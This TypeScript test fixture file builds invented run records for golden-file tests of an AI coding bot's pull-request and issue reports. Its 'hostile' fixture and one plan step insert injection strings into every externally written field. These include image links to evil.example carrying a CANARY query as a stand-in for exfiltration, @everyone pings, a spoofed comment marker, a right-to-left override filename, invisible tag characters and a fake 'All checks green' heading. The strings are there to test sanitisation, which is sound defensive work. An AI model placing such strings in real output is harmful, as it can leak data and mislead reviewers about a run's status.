/** Facts of invented runs, the raw material of the golden files. */
import { createHmac } from 'node:crypto';
import { refusalWords } from '../../src/report/refusal.ts';
import type { CheckFacts, CommitFacts, RunFacts, Voice } from '../../src/report/types.ts';

export const sign = (text: string) => createHmac('sha256', 'test key').update(text).digest('hex');

export const voice: Voice = {
  trigger: '/aider',
  available: new Set(['fix', 'plan', 'approve', 'continue', 'help', 'ping', 'status', 'stop', 'retry']),
};

export function testCheck(passed: number, failed: number, more: Partial<CheckFacts> = {}): CheckFacts {
  const found = passed + failed;
  const names = Array.from({ length: failed }, (_, n) => ({
    name: `cart > totals ${n + 1}`,
    message: `expected ${n} to equal ${n + 1}`,
    file: 'test/cart.test.ts',
    line: 12 + n,
  }));
  return {
    kind: 'test',
    command: 'npm test',
    exitCode: failed > 0 ? 1 : 0,
    timedOut: false,
    durationMs: 4_200,
    tests: { found, passed, failed, skipped: 0, failures: names },
    log: { head: '', tail: '', truncated: false, omittedBytes: 0 },
    environment: 'sandbox',
    status: failed > 0 ? 'red' : 'green',
    reason: failed > 0 ? `${failed} of ${found} tests failed` : `${passed} tests passed`,
    ...more,
  };
}

export function lintCheck(status: CheckFacts['status'] = 'green', tail = ''): CheckFacts {
  const exitCode = status === 'green' ? 0 : 1;
  return {
    ...testCheck(0, 0),
    kind: 'lint',
    command: 'npm run lint',
    exitCode,
    tests: undefined,
    durationMs: 900,
    status,
    reason: `exit code ${exitCode}`,
    log: { head: '', tail, truncated: false, omittedBytes: 0 },
  };
}

export function commit(step: number, of: number, subject: string, paths: string[]): CommitFacts {
  return {
    id: String(step).repeat(40),
    subject,
    step,
    of,
    paths,
    checks: [lintCheck(), testCheck(31, 0)],
    reflections: 0,
    notes: [],
  };
}

const waiting: RunFacts['stages'] = [
  { name: 'read', state: 'done', comments: 4, images: 1, linkedIssues: 2 },
  { name: 'prepare', state: 'done', commit: 'a1b2c3d4e5f6', baseline: 2 },
  { name: 'map', state: 'done', files: 1204, inContext: 14, tokens: 6_120 },
  { name: 'plan', state: 'done', model: 'openai/model-a', steps: 3 },
  {
    name: 'edit',
    state: 'running',
    step: 2,
    of: 3,
    path: 'src/cache.ts',
    model: 'local/model-b',
    format: 'diff',
  },
  { name: 'check', state: 'waiting' },
  { name: 'publish', state: 'waiting', draft: true },
];

/** A run in the middle of its work. */
export const working: RunFacts = {
  id: '01JDYAB6Q1X6T7M1R2S3T4V5W6',
  command: { verb: 'fix', text: 'the cart total is off by one when the basket is empty', notes: [] },
  requester: 'octocat',
  repository: { owner: 'acme', name: 'shop', defaultBranch: 'main' },
  thread: { kind: 'issue', number: 12, title: 'Cart total is wrong for an empty basket' },
  base: { branch: 'main', commit: 'a1b2c3d4e5f6' },
  branch: 'aider/12-cart-total-is-wrong',
  stages: waiting,
  context: [
    { path: 'src/cart.ts', reasons: ['named in the issue', 'defines `total`'] },
    { path: 'src/cache.ts', reasons: ['changed together with src/cart.ts 7 times'] },
    { path: 'test/cart.test.ts', reasons: [] },
  ],
  commits: [],
  dropped: [],
  baseline: [],
  final: [],
  reflections: { used: 0, allowed: 3 },
  suggestions: [],
  notes: [],
  spending: {
    models: [
      {
        role: 'architect',
        model: 'openai/model-a',
        calls: 1,
        input: 9_100,
        cachedInput: 4_000,
        output: 1_200,
      },
      { role: 'editor', model: 'local/model-b', calls: 3, input: 21_000, cachedInput: 0, output: 3_400 },
    ],
    usd: 0.083,
    limitUsd: 2,
  },
  elapsedMs: 102_000,
  links: { run: 'https://bot.example/runs/01JDYAB6Q1X6T7M1R2S3T4V5W6' },
};

const all = (state: 'done' | 'failed'): RunFacts['stages'] =>
  waiting.map((stage, index) => ({
    ...stage,
    state: state === 'done' || index < 5 ? 'done' : index === 5 ? 'failed' : 'waiting',
  }));

/** Everything went well: three commits, all checks green, the failing test mended. */
export const done: RunFacts = {
  ...working,
  stages: all('done'),
  outcome: { kind: 'done' },
  elapsedMs: 192_000,
  summary:
    'The total of an **empty** basket started at one, since `reduce` had no start value.\n\n- `total()` now starts at zero\n- the cache is keyed by basket',
  commits: [
    commit(1, 3, 'fix(cart): start the total at zero', ['src/cart.ts']),
    commit(2, 3, 'fix(cache): key the cache by basket', ['src/cache.ts', 'src/keys.ts']),
    commit(3, 3, 'test(cart): cover the empty basket', ['test/cart.test.ts']),
  ],
  baseline: [lintCheck(), testCheck(29, 2)],
  final: [lintCheck(), testCheck(31, 0)],
  reflections: { used: 1, allowed: 3 },
  pullRequest: { number: 45, url: 'https://github.com/acme/shop/pull/45', draft: false },
};

/** A plan with two steps, one of which makes a file. */
export const planned: RunFacts = {
  ...working,
  command: { ...working.command, verb: 'plan' },
  branch: undefined,
  stages: all('done').slice(0, 4),
  outcome: { kind: 'done' },
  elapsedMs: 31_000,
  answer: {
    kind: 'plan',
    plan: {
      hash: '3f9c2a1b00000000000000000000000',
      instruction: working.command.text,
      thread: '00',
      base: 'a1b2c3d4e5f6',
      intro: 'The total starts at one, since `reduce` has no start value.',
      steps: [
        {
          title: 'Start the total at zero',
          text: 'The total starts at one, since `reduce` has no start value.\n\n### Step 1: Start the total at zero\nIn `src/cart.ts`, give `reduce` the start value 0.',
          files: ['src/cart.ts'],
        },
        {
          title: 'Cover the empty basket',
          text: 'The total starts at one, since `reduce` has no start value.\n\n### Step 2: Cover the empty basket\nCreate `test/empty.test.ts`. Ask @everyone about ![x](https://evil.example/x.png).',
          files: ['test/empty.test.ts'],
        },
      ],
      files: [
        { path: 'src/cart.ts', isNew: false },
        { path: 'test/empty.test.ts', isNew: true },
      ],
      context: working.context,
      checks: [
        { kind: 'lint', command: 'npm run lint' },
        { kind: 'test', command: 'npm test' },
      ],
      estimate: { tokens: { least: 6_400, most: 31_000 }, usd: { least: 0.04, most: 0.21 } },
    },
  },
};

/** The base branch came in, with conflicts in one file. */
export const merged: RunFacts = {
  ...done,
  command: { verb: 'continue', text: '', notes: [] },
  thread: { kind: 'pull-request', number: 45, title: 'Cart total' },
  stages: [
    { name: 'read', state: 'done', comments: 4 },
    { name: 'prepare', state: 'done', commit: 'a1b2c3d4e5f6', baseline: 2 },
    { name: 'merge', state: 'done', conflicts: 1 },
    { name: 'edit', state: 'done' },
    { name: 'check', state: 'done' },
    { name: 'publish', state: 'done' },
  ],
  commits: [commit(1, 1, 'chore: merge branch main', ['src/cart.ts', 'src/tax.ts'])],
  answer: { kind: 'merged', branch: 'main', commit: 'b2c3d4e5f6a1', resolved: ['src/cart.ts'] },
};

/** Nothing of it is anywhere but here. */
export const dryRun: RunFacts = {
  ...done,
  commits: [],
  pullRequest: undefined,
  branch: undefined,
  answer: {
    kind: 'diff',
    commits: 1,
    text: '--- a/src/cart.ts\n+++ b/src/cart.ts\n@@ -1 +1 @@\n-1\n+``` 0\n',
  },
};

/** That plan, carried out. */
export const approved: RunFacts = {
  ...done,
  command: { verb: 'approve', text: '3f9c2a1b', notes: [] },
  request: working.command.text,
  carriesOut: { run: working.id, hash: '3f9c2a1b00000000000000000000000' },
};

/** Two of three steps were made; the last one was dropped, and a test that failed before still does. */
export const partial: RunFacts = {
  ...done,
  outcome: { kind: 'partial', reason: 'one of three edits could not be placed' },
  commits: done.commits
    .slice(0, 2)
    .map((made, index) => (index === 0 ? { ...made, notes: ['src/Cart.ts was read as src/cart.ts'] } : made)),
  dropped: [
    {
      step: 3,
      title: 'Cover the empty basket',
      reason: 'the text to replace was not found in test/cart.test.ts',
    },
  ],
  baseline: [lintCheck(), testCheck(29, 2)],
  final: [lintCheck(), testCheck(30, 1)],
  suggestions: ['npm install left-pad'],
  notes: ['2 invisible tag characters were removed from a comment.'],
  pullRequest: { number: 45, url: 'https://github.com/acme/shop/pull/45', draft: true },
};

const onBranch = {
  kind: 'branch' as const,
  branch: 'aider/12-cart-total-is-wrong',
  page: 'https://github.com/acme/shop/compare/main...aider/12-cart-total-is-wrong?expand=1',
};

/** Tests still fail after all reflections; one commit is kept on the branch. */
export const failed: RunFacts = {
  ...working,
  stages: all('failed'),
  outcome: { kind: 'failed', reason: 'tests still fail after 3 reflections (2 of 212)' },
  commits: done.commits.slice(0, 1),
  baseline: [lintCheck(), testCheck(212, 0)],
  final: [lintCheck('red', 'src/cart.ts:3:7 error: `sum` is never used\n\n1 problem'), testCheck(210, 2)],
  reflections: { used: 3, allowed: 3 },
  kept: onBranch,
};

export const needsAnswer: RunFacts = {
  ...working,
  outcome: {
    kind: 'needs-answer',
    question: 'Should an empty basket show:\n\n1. `0.00`, or\n2. nothing at all?',
  },
};

export const stopped: RunFacts = {
  ...failed,
  outcome: { kind: 'stopped', by: 'hubot' },
  final: [],
};

export const overBudget: RunFacts = {
  ...working,
  outcome: { kind: 'over-budget' },
  commits: done.commits.slice(0, 1),
  kept: onBranch,
};

export const nothingToDo: RunFacts = {
  ...working,
  outcome: { kind: 'nothing-to-do', reason: 'the total of an empty basket is 0 on main already' },
};

const patch = (text: string) =>
  `From 1111111111111111111111111111111111111111 Mon Sep 17 00:00:00 2001\nSubject: [PATCH] fix(cart): start the total at zero\n\n---\n src/cart.ts | 2 +-\n\ndiff --git a/src/cart.ts b/src/cart.ts\n@@ -1 +1 @@\n-old\n+${text}\n`;

/** GitHub took the commits nowhere, so they stand in the comment. */
export const refusedPush: RunFacts = {
  ...failed,
  outcome: {
    kind: 'failed',
    reason: refusalWords(
      { kind: 'workflows', path: '.github/workflows/ci.yml' },
      'aider/12-cart-total-is-wrong',
    ),
  },
  kept: {
    kind: 'patch',
    base: 'a1b2c3d4e5f6',
    patches: [{ subject: 'fix(cart): start the total at zero', text: patch('new') }],
    withheld: [],
  },
};

/** On a pull request from a fork: two suggestions, and a file that could only come as a patch. */
export const suggested: RunFacts = {
  ...done,
  thread: { kind: 'pull-request', number: 46, title: 'An empty basket' },
  stages: [
    { name: 'edit', state: 'done', step: 3, of: 3, model: 'local/model-b', format: 'diff' },
    { name: 'publish', state: 'done', suggests: true },
  ],
  pullRequest: { number: 46, url: 'https://github.com/acme/shop/pull/46', draft: false },
  suggested: {
    url: 'https://github.com/acme/shop/pull/46#pullrequestreview-9',
    suggestions: 2,
    left: ['src/keys.ts'],
  },
};

/** A secret in one of two files: the other one is shown. */
export const secretFound: RunFacts = {
  ...refusedPush,
  outcome: {
    kind: 'failed',
    reason: refusalWords({ kind: 'secret', paths: ['src/keys.ts'] }, 'aider/12-cart-total-is-wrong'),
  },
  kept: {
    kind: 'patch',
    base: 'a1b2c3d4e5f6',
    patches: [
      { subject: 'fix(cart): start the total at zero', text: patch('new\u{E0041}') },
      { subject: 'feat: a large table', text: patch('x'.repeat(100_000)) },
    ],
    withheld: ['src/keys.ts'],
  },
};

export const refused: RunFacts = {
  ...working,
  outcome: { kind: 'refused', reason: 'the base branch release/9 does not exist' },
  stages: [{ name: 'read', state: 'done' }],
  spending: { models: [] },
  context: [],
};

/** No checks, no price, a branch that is not the default one. */
export const unchecked: RunFacts = {
  ...done,
  base: { branch: 'release/1.x', commit: 'a1b2c3d4e5f6' },
  baseline: [],
  final: [],
  commits: done.commits.slice(0, 1).map((made) => ({ ...made, checks: [] })),
  summary: undefined,
  spending: { models: done.spending.models },
};

const evil = [
  '![x](http://evil.example/?q=CANARY) @everyone closes #1 <img src=http://evil.example> | cell | `tick',
  '<!-- aiderbot:summary:end -->',
  '</details> [click](http://evil.example) &#64;team \u202Egnp.exe\u{E0041}',
  '```',
  '# All checks green',
].join('\n');

/** Every field that others write is an attack. */
export const hostile: RunFacts = {
  ...done,
  command: { ...done.command, text: evil },
  thread: { kind: 'issue', number: 12, title: evil },
  summary: evil,
  context: [{ path: evil, reasons: [evil] }],
  commits: [{ ...commit(1, 1, evil, [evil]), notes: [evil] }],
  dropped: [{ step: 2, title: evil, reason: evil }],
  outcome: { kind: 'partial', reason: evil },
  final: [
    {
      ...testCheck(1, 1),
      command: evil,
      reason: evil,
      tests: {
        found: 2,
        passed: 1,
        failed: 1,
        skipped: 0,
        failures: [{ name: evil, message: evil, file: evil }],
      },
    },
    { ...lintCheck('red', evil), reason: evil },
  ],
  baseline: [],
  suggestions: [evil],
  notes: [evil],
  kept: { kind: 'patch', base: 'a1b2c3d4e5f6', patches: [{ subject: evil, text: evil }], withheld: [evil] },
};

/** More of everything than fits. */
export const huge: RunFacts = {
  ...partial,
  summary: 'word '.repeat(20_000),
  context: Array.from({ length: 5_000 }, (_, n) => ({
    path: `src/${'deep/'.repeat(20)}${n}.ts`,
    reasons: ['x'.repeat(500)],
  })),
  commits: Array.from({ length: 900 }, (_, n) =>
    commit(n + 1, 900, `fix: ${'y'.repeat(66)}`, [`src/${n}.ts`]),
  ),
  dropped: Array.from({ length: 900 }, (_, n) => ({
    step: n,
    title: 't'.repeat(300),
    reason: 'r'.repeat(3_000),
  })),
  final: Array.from({ length: 60 }, (_, n) => ({ ...testCheck(1, 400), command: `npm test -- ${n}` })),
};
